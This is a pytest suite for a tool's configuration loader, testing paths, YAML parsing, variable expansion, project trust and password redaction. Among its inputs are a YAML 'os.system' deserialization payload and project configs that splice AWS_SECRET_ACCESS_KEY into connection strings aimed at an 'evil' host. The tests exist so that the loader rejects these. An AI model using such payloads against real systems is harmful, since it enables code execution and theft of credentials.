"""Folders, settings, projects and redaction: each test is one claim of `holdproof.config`."""

import os
import stat
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from holdproof import config, config_trust, folders
from holdproof.config import Paths, Settings
from holdproof.errors import (
    AlreadyExistsError,
    ConfigError,
    HoldproofError,
    InvalidInputError,
    NotFoundError,
    ReadOnlyError,
    UnavailableError,
)
from holdproof.urls import redact, same_database

PG = "postgresql://ada:s3cret@db.example/kernel"
DIRECT = "postgresql://app@db.internal/agents"
Write = Callable[[str], Path]
CONNECTION = "providers.relational.connection"


@pytest.fixture
def paths(tmp_path: Path) -> Paths:
    return Paths.find(tmp_path / "home", {})


@pytest.fixture
def user(paths: Paths) -> Write:
    """Writes the user's config.yaml."""

    def write(text: str) -> Path:
        paths.config.mkdir(parents=True, exist_ok=True)
        paths.config_file.write_text(text)
        return paths.config_file

    return write


@pytest.fixture
def project(tmp_path: Path) -> Write:
    """Writes a project's config.yaml; gives a folder deep inside the project."""

    def write(text: str) -> Path:
        inner = tmp_path / "project" / "a" / "b"
        inner.mkdir(parents=True, exist_ok=True)
        (tmp_path / "project" / ".holdproof").mkdir(exist_ok=True)
        (tmp_path / "project" / ".holdproof" / "config.yaml").write_text(text)
        return inner

    return write


def load(paths: Paths, env: Mapping[str, str] | None = None, **options: Any) -> Settings:
    return config.load(paths=paths, env=env or {}, **options)


def refused(paths: Paths, env: Mapping[str, str] | None = None, **options: Any) -> ConfigError:
    """The error of a strict reading, having checked that the other kind of reading only warns."""
    with pytest.raises(ConfigError) as caught:
        load(paths, env, **options)
    tolerant = load(paths, env, strict=False, **options)
    assert f"{caught.value.message}; ignored" in tolerant.warnings
    assert tolerant.database_url is None
    return caught.value


def test_the_places_on_disk_are_those_of_the_design() -> None:
    env = {"HOME": "/u", "XDG_DATA_HOME": "/d", "XDG_CONFIG_HOME": "/c", "XDG_STATE_HOME": "/s"}
    paths = Paths.find(env={**env, "XDG_CACHE_HOME": "/k"})
    data = [paths.kernel_db, paths.membrane_db, paths.telemetry_db, paths.blobs, paths.dboms, paths.images]
    names = ["kernel.db", "membrane.db", "telemetry.db", "blobs", "dboms", "images"]
    assert data == [Path("/d/holdproof", name) for name in names]
    assert [paths.config_file, paths.keys] == [Path("/c/holdproof/config.yaml"), Path("/c/holdproof/keys")]
    assert [paths.heads, paths.lockdown] == [Path("/s/holdproof/heads.jsonl"), Path("/s/holdproof/lockdown.json")]
    assert paths.cache == Path("/k/holdproof")


def test_without_variables_the_xdg_defaults_hold() -> None:
    paths = Paths.find(env={"HOME": "/u"})
    assert (paths.data, paths.config) == (Path("/u/.local/share/holdproof"), Path("/u/.config/holdproof"))
    assert (paths.state, paths.cache) == (Path("/u/.local/state/holdproof"), Path("/u/.cache/holdproof"))


@pytest.mark.parametrize("value", ["", "data", "./data", "~/data"])
def test_a_relative_or_empty_xdg_value_counts_as_unset(value: str) -> None:
    assert Paths.find(env={"HOME": "/u", "XDG_DATA_HOME": value}).data == Path("/u/.local/share/holdproof")


def test_home_argument_beats_variable_beats_xdg() -> None:
    env = {"HOME": "/u", "HOLDPROOF_HOME": "/h", "XDG_DATA_HOME": "/d"}
    assert Paths.find("/mine", env).data == Path("/mine")
    assert Paths.find(None, env).data == Path("/h")
    assert Paths.find(None, {**env, "HOLDPROOF_HOME": "~/h"}).data == Path("/u/h")


def test_under_a_home_everything_lies_inside_it_and_no_two_places_clash(tmp_path: Path) -> None:
    paths = Paths.find(tmp_path, {"HOME": "/u", "XDG_DATA_HOME": "/d"})
    names = "config state cache kernel_db membrane_db telemetry_db blobs dboms images config_file keys heads lockdown"
    places = [getattr(paths, name) for name in names.split()]
    assert all(place.is_relative_to(tmp_path) for place in places)
    assert len(set(places)) == len(places)


def test_a_relative_home_is_made_absolute(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert Paths.find("here", {}).data == tmp_path / "here"


@pytest.mark.parametrize("home", ["", "  "])
def test_an_empty_home_is_refused_and_not_taken_for_the_current_folder(home: str) -> None:
    with pytest.raises(ConfigError, match="set but empty"):
        Paths.find(None, {"HOME": "/u", "HOLDPROOF_HOME": home})
    with pytest.raises(ConfigError, match="set but empty"):
        Paths.find(home, {"HOME": "/u"})


def test_without_any_home_folder_the_error_says_what_to_set(monkeypatch: pytest.MonkeyPatch) -> None:
    def homeless() -> Path:
        raise RuntimeError("Could not determine home directory.")

    monkeypatch.setattr(Path, "home", homeless)
    with pytest.raises(ConfigError, match="set HOLDPROOF_HOME"):
        Paths.find(env={})


def test_a_home_named_like_a_project_folder_is_no_project(tmp_path: Path) -> None:
    paths = Paths.find(tmp_path / ".holdproof", {})
    paths.create()
    paths.config_file.write_text("profile: mine\n")
    assert folders.find_project(tmp_path) is None


def test_created_folders_and_their_new_parents_are_private(tmp_path: Path) -> None:
    paths = Paths.find(tmp_path / "x" / "y", {})
    paths.create()
    made = [tmp_path / "x", paths.data, paths.blobs, paths.dboms, paths.images, paths.config, paths.state]
    assert [stat.S_IMODE(folder.stat().st_mode) for folder in [*made, paths.cache]] == [0o700] * 8


def test_creating_twice_changes_nothing_and_keeps_the_modes_of_existing_folders(tmp_path: Path) -> None:
    paths = Paths.find(tmp_path / "x", {})
    paths.data.mkdir(mode=0o750)
    paths.create()
    paths.create()
    assert stat.S_IMODE(paths.data.stat().st_mode) == 0o750


def test_a_file_in_the_way_is_a_typed_error_that_names_it(tmp_path: Path) -> None:
    (tmp_path / "x").write_text("")
    with pytest.raises(UnavailableError, match=str(tmp_path / "x")):
        Paths.find(tmp_path / "x" / "below", {}).create()


def test_a_home_that_this_user_may_not_look_into_is_named_with_its_cure(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    home.chmod(0)
    is_root = os.geteuid() == 0
    if is_root:
        os.seteuid(65534)
    try:
        with pytest.raises(ReadOnlyError, match=f"{home}: Permission denied") as caught:
            Paths.find(home).check()
    finally:
        if is_root:
            os.seteuid(0)
        home.chmod(0o700)
    assert "permissions" in caught.value.remedy


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write everywhere")
@pytest.mark.parametrize("act", [lambda folder: Paths.find(folder / "x", {}).create(), config.init_project])
def test_a_folder_without_permission_is_a_typed_error(tmp_path: Path, act: Callable[[Path], Any]) -> None:
    tmp_path.chmod(0o500)
    with pytest.raises(ReadOnlyError):
        act(tmp_path)


def test_nothing_configured_is_the_embedded_default_without_warnings(paths: Paths) -> None:
    settings = load(paths)
    assert (settings.database_url, settings.source, settings.warnings) == (None, None, ())
    types = {kind: provider.type for kind, provider in settings.providers.items()}
    assert types == {"relational": "sqlite", "vector": "numpy", "blob": "filesystem", "telemetry": "sqlite"}
    retention = settings.providers["telemetry"].retention
    assert (retention.hot_days, retention.warm_days, retention.cold_days) == (30, 365, None)


def test_explicit_url_beats_variable_beats_project_beats_user(paths: Paths, user: Write, project: Write) -> None:
    text = "providers: {{relational: {{type: postgres, connection: 'postgresql://{}/db'}}}}"
    user(text.format("user"))
    inner = project(text.format("project"))
    _allow(paths, inner)
    env = {"HOLDPROOF_DATABASE_URL": "postgresql://variable/db"}
    assert load(paths, env, project=inner, url="postgresql://given/db").database_url == "postgresql://given/db"
    assert load(paths, env, project=inner).database_url == "postgresql://variable/db"
    assert load(paths, project=inner).database_url == "postgresql://project/db"
    assert load(paths).database_url == "postgresql://user/db"


def test_an_overriding_url_is_the_relational_provider_too(paths: Paths) -> None:
    relational = load(paths, {"HOLDPROOF_DATABASE_URL": PG}).providers["relational"]
    assert (relational.type, relational.connection) == ("postgres", PG)
    assert load(paths, url=":memory:").providers["relational"].type == "sqlite"


def test_the_relational_provider_names_the_url_by_a_variable(paths: Paths, user: Write) -> None:
    file = user("providers:\n  relational:\n    type: postgres\n    connection: ${HOLDPROOF_PG}\n")
    settings = load(paths, {"HOLDPROOF_PG": PG})
    assert (settings.database_url, settings.source) == (PG, file)


@pytest.mark.parametrize("value", ["", "  "])
def test_a_url_set_but_empty_is_an_error(paths: Paths, value: str) -> None:
    assert "HOLDPROOF_DATABASE_URL is set but empty" in refused(paths, {"HOLDPROOF_DATABASE_URL": value}).message
    assert "url is set but empty" in refused(paths, url=value).message


@pytest.mark.parametrize("value", ["localhost/kernel", "host=db dbname=kernel", "kernel.db"])
def test_a_url_without_a_scheme_is_not_taken_for_a_new_file(paths: Paths, value: str) -> None:
    assert refused(paths, url=value).fields == {"variable": "url"}


@pytest.mark.parametrize("kind", ["", "type: sqlite, ", "type: postgres, "])
def test_a_type_at_odds_with_its_connection_never_ends_elsewhere(paths: Paths, user: Write, kind: str) -> None:
    connection = "'host=db password=s3cret'" if "postgres" in kind else "'postgresql://ada:s3cret@db/x'"
    user(f"providers: {{relational: {{{kind}connection: {connection}}}}}")
    error = refused(paths)
    assert error.fields["key"] == CONNECTION
    assert "s3cret" not in str(error.to_dict())
    user("providers: {relational: {type: postgres}}")
    assert refused(paths).fields["key"] == CONNECTION


def test_both_spellings_expand_anywhere_in_a_text() -> None:
    assert config.expand("a${X}b${env:X}c$X", {"X": "1"}) == "a1b1c$X"


def test_the_value_of_a_variable_is_not_expanded_again() -> None:
    assert config.expand("${X}", {"X": "${Y}", "Y": "2"}) == "${Y}"


def test_unset_xdg_variables_have_their_defaults() -> None:
    env = {"HOME": "/u", "XDG_STATE_HOME": "/s"}
    text = "${XDG_DATA_HOME}:${XDG_CONFIG_HOME}:${env:XDG_STATE_HOME}:${XDG_CACHE_HOME}"
    assert config.expand(text, env) == "/u/.local/share:/u/.config:/s:/u/.cache"


def test_an_unset_variable_is_named_with_file_and_key(paths: Paths, user: Write) -> None:
    file = user("providers: {blob: {type: s3, path: '${BUCKET}/x'}}")
    error = refused(paths)
    assert error.fields == {"file": str(file), "key": "providers.blob.path", "variable": "BUCKET"}
    assert all(part in error.message for part in (str(file), "providers.blob.path", "BUCKET"))


def test_not_strict_an_unset_variable_costs_that_setting_only(paths: Paths, user: Write) -> None:
    user("profile: ${NOPE}\nproviders: {vector: {dimensions: 768, path: '${NOPE}'}}")
    settings = load(paths, strict=False)
    vector = settings.providers["vector"]
    assert (settings.profile, vector.dimensions, vector.path, len(settings.warnings)) == ("default", 768, None, 2)


@pytest.mark.parametrize("text", ["${", "${}", "${env:}", "${1X}", "${X", "${X:-y}", "${X Y}", "a${ä}"])
def test_what_is_not_a_variable_is_refused(text: str) -> None:
    with pytest.raises(ConfigError):
        config.expand(text, {"X": "1"})


@given(st.text(alphabet=st.sampled_from("${}env:XY_a \n\0ä")), st.dictionaries(st.sampled_from("XYa"), st.text()))
@example("${HOME}", {})
def test_expansion_raises_nothing_but_config_errors(text: str, env: dict[str, str]) -> None:
    try:
        expanded = config.expand(text, env)
    except ConfigError:
        return
    assert "${" in text or expanded == text


def test_a_number_may_come_from_a_variable(paths: Paths, user: Write) -> None:
    user("providers: {vector: {dimensions: '${DIMENSIONS}'}}")
    assert load(paths, {"DIMENSIONS": "768"}).providers["vector"].dimensions == 768
    assert refused(paths, {"DIMENSIONS": "many"}).fields["key"] == "providers.vector.dimensions"


def test_a_variable_that_is_set_but_empty_is_refused(paths: Paths, user: Write) -> None:
    user("providers: {relational: {type: postgres, connection: '${HOLDPROOF_PG}'}}")
    with pytest.raises(ConfigError, match="not empty"):
        load(paths, {"HOLDPROOF_PG": ""})


@pytest.mark.parametrize(
    ("text", "line", "column"),
    [
        ("profile: a\nproviders: [\n", 3, 1),
        ("profile: a\n\tx: 1\n", 2, 1),
        ("profile: a\nprofile: b\n", 2, 1),
        ("providers:\n  blob: {path: a, path: b}\n", 2, 19),
        ("a: 1\n---\nb: 2\n", 2, 1),
        ("profile: !!python/object/apply:os.system ['true']\n", 1, 10),
        ("x: 1\nprofile: 2024-99-99\n", 2, 10),
        ("profile: !!int x\n", 1, 10),
        ("profile: !!bool x\n", 1, 10),
        ("profile: *nowhere\n", 1, 10),
        ("{[1]: 2}\n", 1, 2),
        ("profile: ää\nx: \x07\n", 2, 4),
    ],
)
def test_broken_yaml_is_told_with_file_line_and_column(
    paths: Paths, user: Write, text: str, line: int, column: int
) -> None:
    file = user(text)
    error = refused(paths)
    assert error.fields == {"file": str(file), "line": line, "column": column}
    assert f"{file}, line {line}, column {column}: " in error.message
    assert load(paths, strict=False).profile == "default"


@pytest.mark.parametrize("text", ["- a\n", "text\n", "1\n", "[" * 3_000, "x: " + "y" * 300_000])
def test_what_is_no_bounded_mapping_is_refused(paths: Paths, user: Write, text: str) -> None:
    file = user(text)
    assert refused(paths).fields["file"] == str(file)


def test_bytes_that_are_not_utf8_are_refused_with_their_line(paths: Paths, user: Write) -> None:
    user("").write_bytes(b"profile: a\nx: \xff\n")
    assert (refused(paths).fields["line"], refused(paths).fields["column"]) == (2, 4)


@pytest.mark.parametrize("make", [os.mkdir, os.mkfifo, lambda file: os.symlink("nowhere", file)])
def test_a_config_file_that_cannot_be_read_is_not_taken_for_absent(paths: Paths, make: Callable[[Path], None]) -> None:
    paths.config.mkdir(parents=True)
    make(paths.config_file)
    assert refused(paths).fields == {"file": str(paths.config_file)}


@pytest.mark.parametrize("text", ["", "# nothing\n", "providers:\n", "providers:\n  relational:\n", "{}", "~"])
def test_a_key_without_a_value_says_nothing(paths: Paths, user: Write, text: str) -> None:
    user(text)
    assert load(paths).providers == load(Paths.find("/nowhere", {})).providers


UNKNOWN = "profil=x 1=x providers.graph={} providers.blob.wal=true providers.blob.wal=null"
UNKNOWN += " providers.telemetry.retention.days=1"
WRONG = "profile=1 profile='' profile=[a] providers=text providers=[1] providers.blob=s3 providers.blob.path=7"
WRONG += " providers.relational.type=postgress providers.relational.type=[sqlite] providers.vector.dimensions=0"
WRONG += " providers.vector.dimensions='384' providers.vector.dimensions=true providers.vector.threshold=1.5"
WRONG += " providers.vector.fallback=[numpy,faiss] providers.telemetry.retention=30"
WRONG += " providers.telemetry.retention.hot_days=-1"


@pytest.mark.parametrize("case", UNKNOWN.split() + WRONG.split())
def test_an_unknown_key_or_wrong_type_is_named_by_its_path(paths: Paths, user: Write, case: str) -> None:
    key, text = case.split("=")
    for part in reversed(key.split(".")):
        text = f"{{{part}: {text}}}"
    file = user(text)
    error = refused(paths)
    assert error.fields == {"file": str(file), "key": key}
    assert f"{file}: {key}: {'unknown key' if case in UNKNOWN.split() else 'must '}" in error.message


def test_every_setting_arrives(paths: Paths, user: Write) -> None:
    user(
        "profile: edge\n"
        "providers:\n"
        "  vector: {type: hnsw, path: /v, dimensions: 8, fallback: [numpy, memory], threshold: 300000}\n"
        "  blob: {type: s3, connection: 's3://bucket', fallback: filesystem}\n"
        "  telemetry: {retention: {hot_days: 1, warm_days: 2, cold_days: 3}}\n"
    )
    settings = load(paths)
    vector, blob = settings.providers["vector"], settings.providers["blob"]
    assert (vector.type, vector.path, vector.dimensions, vector.threshold) == ("hnsw", "/v", 8, 300_000)
    assert (vector.fallback, blob.fallback, blob.connection) == (("numpy", "memory"), ("filesystem",), "s3://bucket")
    assert settings.providers["telemetry"].retention == config.RetentionSettings(1, 2, 3)
    assert settings.profile == "edge"


def test_settings_cannot_be_changed_and_do_not_show_secrets(paths: Paths) -> None:
    settings = load(paths, url=PG)
    with pytest.raises(TypeError):
        settings.providers["blob"] = settings.providers["blob"]  # type: ignore[index]
    assert "s3cret" not in repr(settings)


def test_a_project_overrides_single_settings(paths: Paths, user: Write, project: Write) -> None:
    user("profile: mine\nproviders: {vector: {dimensions: 768, path: /v}, telemetry: {retention: {hot_days: 1}}}")
    inner = project("providers: {vector: {type: numpy, path: /p}, telemetry: {retention: {cold_days: 9}}}")
    _allow(paths, inner)
    settings = load(paths, project=inner)
    vector = settings.providers["vector"]
    assert (settings.profile, vector.dimensions, vector.path) == ("mine", 768, "/p")
    assert settings.providers["telemetry"].retention == config.RetentionSettings(1, 365, 9)
    assert settings.source == inner.parent.parent / ".holdproof" / "config.yaml"


def test_a_project_naming_another_type_replaces_that_provider(paths: Paths, user: Write, project: Write) -> None:
    user(f"providers: {{relational: {{type: postgres, connection: '{PG}'}}, blob: {{path: /b}}}}")
    inner = project("providers: {relational: {type: sqlite}}")
    _allow(paths, inner)
    settings = load(paths, project=inner)
    assert settings.providers["relational"] == config.Provider("sqlite")
    assert (settings.database_url, settings.providers["blob"].path) == (None, "/b")


def test_an_empty_heading_in_a_project_does_not_reset_the_database(paths: Paths, user: Write, project: Write) -> None:
    user(f"providers: {{relational: {{type: postgres, connection: '{PG}'}}}}")
    assert load(paths, project=project("providers:\n  relational:\n")).database_url == PG


def test_without_a_starting_folder_projects_are_left_out(paths: Paths, project: Write) -> None:
    project("profile: theirs\n")
    assert load(paths).profile == "default"


def test_a_project_is_found_by_walking_up_and_the_nearest_wins(tmp_path: Path, project: Write) -> None:
    inner = project("")
    assert folders.find_project(inner) == tmp_path / "project"
    assert folders.find_project(tmp_path / "project") == tmp_path / "project"
    assert folders.find_project(inner / "not" / "there") == tmp_path / "project"
    config.init_project(inner)
    assert folders.find_project(inner) == inner


def test_a_project_hash_is_8_hex_digits_of_the_resolved_path(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(tmp_path)
    assert folders.project_hash(Path("/")) == "8a5edab2"
    assert folders.project_hash(tmp_path / "link") == folders.project_hash(tmp_path)
    assert folders.project_hash(tmp_path / "x" / "..") == folders.project_hash(tmp_path)


def test_a_new_project_has_a_harmless_template_and_nothing_that_is_not_used(paths: Paths, tmp_path: Path) -> None:
    made = config.init_project(tmp_path)
    assert made == [tmp_path / ".holdproof" / "config.yaml"]
    assert sorted(os.listdir(tmp_path / ".holdproof")) == [".gitignore", "config.yaml"]
    assert load(paths, project=tmp_path).providers == load(paths).providers
    assert os.listdir(tmp_path) == [".holdproof"]


def test_the_template_is_valid_once_its_comments_are_removed(paths: Paths, tmp_path: Path) -> None:
    file = config.init_project(tmp_path)[0]
    file.write_text("".join(line.removeprefix("# ") for line in file.read_text().splitlines(keepends=True)[1:]))
    _allow(paths, tmp_path)
    variables = {"HOLDPROOF_PG": PG, "HOLDPROOF_PG_DIRECT": DIRECT}
    settings = load(paths, variables, project=tmp_path)
    assert (settings.database_url, settings.direct_url) == (PG, DIRECT)


def test_the_direct_url_is_the_variables_before_the_files_and_serves_the_same_database_only(
    paths: Paths, user: Write
) -> None:
    user(f"direct_url: {DIRECT}\n")
    settings = load(paths, {"HOLDPROOF_DATABASE_URL": PG})
    assert (settings.direct_url, settings.session_url) == (DIRECT, DIRECT)
    assert settings.options_of(PG) == {"direct_url": DIRECT}
    assert settings.options_of("postgresql://elsewhere/other") == {}
    assert settings.options_of(paths.kernel_db) == {}
    other = f"{DIRECT}?application_name=x"
    assert load(paths, {"HOLDPROOF_DATABASE_URL": PG, "HOLDPROOF_DIRECT_URL": other}).direct_url == other
    assert DIRECT not in repr(settings)
    assert load(paths, {}).session_url == DIRECT


def test_a_direct_url_that_names_no_server_is_refused(paths: Paths) -> None:
    assert refused(paths, {"HOLDPROOF_DIRECT_URL": "localhost"}).fields["variable"] == "HOLDPROOF_DIRECT_URL"


@pytest.mark.parametrize("kind", ["project", "file", "dangling link", "empty folder", "half"])
def test_an_existing_project_is_refused_and_left_as_it_is(tmp_path: Path, kind: str) -> None:
    place = tmp_path / ".holdproof"
    if kind == "file":
        place.write_text("mine")
    elif kind == "dangling link":
        place.symlink_to("nowhere")
    else:
        place.mkdir()
        for name in {"project": ("config.yaml",), "half": (".gitignore",)}.get(kind, ()):
            (place / name).write_text("mine")
    before = {file: file.lstat().st_mtime_ns for file in tmp_path.rglob("*")}
    with pytest.raises(AlreadyExistsError, match=r"\.holdproof"):
        config.init_project(tmp_path)
    assert {file: file.lstat().st_mtime_ns for file in tmp_path.rglob("*")} == before


def test_of_two_racing_inits_one_wins_and_nothing_is_mixed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rename = Path.rename

    def late(staged: Path, target: Path) -> Path:
        target.mkdir()
        (target / "config.yaml").write_text("the winner's")
        return rename(staged, target)

    monkeypatch.setattr(Path, "rename", late)
    with pytest.raises(AlreadyExistsError):
        config.init_project(tmp_path)
    assert os.listdir(tmp_path) == [".holdproof"]
    assert os.listdir(tmp_path / ".holdproof") == ["config.yaml"]
    assert (tmp_path / ".holdproof" / "config.yaml").read_text() == "the winner's"


def test_a_project_in_a_missing_folder_is_not_found(tmp_path: Path) -> None:
    with pytest.raises(NotFoundError, match="no such folder"):
        config.init_project(tmp_path / "x")


def test_a_full_disk_leaves_no_half_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object, **__: object) -> int:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(folders, "open", full, raising=False)
    with pytest.raises(HoldproofError) as caught:
        config.init_project(tmp_path)
    assert caught.value.code == "database.disk_full"
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        (PG, "postgresql://ada:***@db.example/kernel"),
        *[(f"postgresql://{host}/kernel",) * 2 for host in ("ada@db", "db:5432", "a:1,b:2", "[::1]:5432")],
        ("postgresql:///k?host=/tmp&password=x%26&user=u", "postgresql:///k?host=/tmp&password=***&user=u"),
        ("postgresql://db/k?sslpassword=x", "postgresql://db/k?sslpassword=***"),
        ("postgresql://ada:no-at-sign", "postgresql://ada:***"),
        ("host=db password='a b\\' c' user=u", "host=db password=*** user=u"),
        ("host=db PASSWORD = a&b user=u", "host=db PASSWORD = *** user=u"),
        *[(plain,) * 2 for plain in (":memory:", "/data/kernel.db")],
    ],
)
def test_redaction_hides_passwords_and_only_passwords(url: str, shown: str) -> None:
    assert redact(url) == shown


@given(st.text(alphabet=st.sampled_from("a1:/?#@&=%'\\[] \n"), max_size=12))
def test_no_password_survives_redaction_in_a_url(noise: str) -> None:
    url = f"postgresql://ada:Secret{noise}Secret@db/kernel?application_name=x"
    assert "Secret" not in redact(url)


def test_a_url_leaves_the_application_tables_the_login_that_a_file_gives_them(paths: Paths) -> None:
    services = "postgresql://services:x@db.example:5433/shop?sslmode=require"
    paths.create()
    paths.config_file.write_text(f'providers: {{relational: {{type: postgres, connection: "{services}"}}}}')
    kernel = "postgresql://kernel:y@db.example:5433/shop"
    for settings in (load(paths, url=kernel), load(paths, {"HOLDPROOF_DATABASE_URL": kernel})):
        assert settings.database_url == kernel
        assert settings.providers["relational"].connection == services
    # Another database is another store: its application tables are there too.
    elsewhere = load(paths, url="postgresql://kernel:y@db.example:5433/drill")
    assert elsewhere.providers["relational"].connection == "postgresql://kernel:y@db.example:5433/drill"


def _allow(paths: Paths, folder: Path) -> None:
    root = folders.find_project(folder)
    assert root is not None
    config_trust.allow(paths.allowed_projects, root / ".holdproof" / "config.yaml")


@pytest.mark.parametrize(
    "text",
    [
        "providers: {relational: {type: postgres, connection: 'postgresql://x:${AWS_SECRET_ACCESS_KEY}@evil/db'}}",
        "providers: {vector: {type: pgvector, connection: postgresql://evil/db}}",
        "providers: {blob: {type: s3, connection: 's3://evil'}}",
        "providers: {blob: {type: filesystem, path: '${AWS_SECRET_ACCESS_KEY}'}}",
        "profile: ${env:AWS_SECRET_ACCESS_KEY}",
        "providers: {relational: {fallback: ['${AWS_SECRET_ACCESS_KEY}']}}",
    ],
)
def test_a_project_names_no_server_and_no_variable_until_it_is_allowed(paths: Paths, project: Write, text: str) -> None:
    env = {"AWS_SECRET_ACCESS_KEY": "sqlite"}
    inner = project(text)
    with pytest.raises(ConfigError, match="holdproof config allow"):
        load(paths, env, project=inner)
    lenient = load(paths, env, project=inner, strict=False)
    assert (lenient.providers, lenient.profile) == (load(paths).providers, "default")
    assert len(lenient.warnings) == 1
    _allow(paths, inner)
    load(paths, env, project=inner)
    project(f"{text} # changed by the next pull")
    with pytest.raises(ConfigError, match="holdproof config allow"):
        load(paths, env, project=inner)


def test_a_project_without_servers_and_variables_needs_no_permission(paths: Paths, project: Write) -> None:
    inner = project("profile: tuned\nproviders: {vector: {dimensions: 3}}")
    assert load(paths, project=inner).profile == "tuned"


@pytest.mark.parametrize(
    "text",
    [
        "providers: {blob: {path: /tmp/elsewhere}}",
        "providers: {relational: {type: memory}}",
        "providers: {relational: {fallback: [memory]}}",
        "providers: {telemetry: {retention: {hot_days: 1}}}",
        "images: {keep: 1}",
        "backups: {folder: /tmp/elsewhere}",
    ],
)
def test_a_project_moves_no_data_and_shortens_no_retention_until_it_is_allowed(
    paths: Paths, project: Write, text: str
) -> None:
    inner = project(text)
    with pytest.raises(ConfigError, match="holdproof config allow"):
        load(paths, project=inner)
    _allow(paths, inner)
    load(paths, project=inner)


@pytest.mark.parametrize(
    "other",
    [
        "postgresql://db.example:5432/my%20shop",
        "postgres://Ada:secret@DB.Example/my%20shop?sslmode=require",
        "postgresql:///my shop?host=db.example&port=5432",
        "host=db.example dbname='my shop' user=ada",
        "dbname = my\\ shop host = DB.EXAMPLE port = 5432",
    ],
)
def test_two_urls_of_one_database_are_the_same_however_they_are_written(other: str) -> None:
    assert same_database("postgresql://kernel@db.example/my%20shop", other)
    assert not same_database("postgresql://kernel@db.example:5433/my%20shop", other)
    assert not same_database("postgresql://kernel@db.example/shop", other)


def test_a_malformed_ipv6_url_is_a_typed_error() -> None:
    with pytest.raises(InvalidInputError, match=r"\[::1\]:5432"):
        same_database("postgresql://ada@[::1/shop", "postgresql://db/shop")
    assert same_database("postgresql://ada@[::1]/shop", "postgresql://eve@[::1]:5432/shop")


def test_a_home_that_is_a_file_is_a_typed_error_with_its_cure(tmp_path: Path) -> None:
    file = tmp_path / "kernel.db"
    file.touch()
    with pytest.raises(ConfigError, match=r"is a file, not a folder; give --home"):
        Paths.find(file).check()
